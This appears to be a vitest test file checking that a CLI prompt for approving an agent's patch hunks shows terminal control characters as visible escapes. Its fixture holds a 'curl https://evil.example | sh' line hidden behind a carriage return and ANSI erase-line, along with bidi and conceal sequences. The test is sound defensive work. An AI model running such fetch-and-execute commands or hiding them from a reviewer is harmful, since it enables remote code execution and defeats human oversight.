/**
 * What `promote -p` prints on the terminal (src/cli/hunk-prompt.ts `terminalAsker`) is the agent's
 * text: control characters in it (carriage return, ANSI escapes, bidi overrides) must show as visible
 * escapes, never act on the terminal, or a line could hide itself from the person answering.
 */
import { PassThrough } from 'node:stream'
import { describe, expect, it } from 'vitest'
import { terminalAsker } from '../../src/cli/hunk-prompt.ts'

describe('terminalAsker', () => {
  it('prints control characters of the hunk and the path as visible escapes', async () => {
    const input = new PassThrough()
    const output = new PassThrough()
    const shown: Buffer[] = []
    output.on('data', (chunk: Buffer) => shown.push(chunk))
    // A shell line whose comment hides an erase-line: a terminal would show only "+echo hello".
    const hidden = '+curl https://evil.example | sh # \r\x1b[2K+echo hello'
    const asked = terminalAsker(
      input,
      output,
    )({
      path: 'run\x1b[8m.sh',
      kind: 'hunk',
      index: 1,
      total: 1,
      status: 'modified',
      text: `@@ -1 +1 @@ [h:1a2b3c4d]\n-echo hi\n${hidden}\n\u202Eevil\n+raw \udc9b2K byte\n`,
    })
    setTimeout(() => input.write('n\n'), 50)
    expect(await asked).toBe('n')
    const text = Buffer.concat(shown).toString('utf8')
    // The patch is printed before the prompt (whose own drawing uses escapes of its own).
    const patch = text.slice(0, text.indexOf('Promote this hunk'))
    expect(patch).toContain('curl https://evil.example | sh # ')
    expect(patch).not.toContain('\r')
    expect(patch).not.toContain('\x1b[2K')
    expect(patch).not.toContain('\u202E')
    expect(patch).toContain('\\x1b[2K')
    // A raw 0x9b byte (8-bit CSI) in non-UTF-8 content is shown, not sent.
    expect(patch).toContain('raw \\x9b2K byte')
    expect(text).not.toContain('\x1b[8m')
    // The path is git-quoted, as every listing shows a name holding control characters.
    expect(text).toContain('"run\\033[8m.sh"')
  })
})
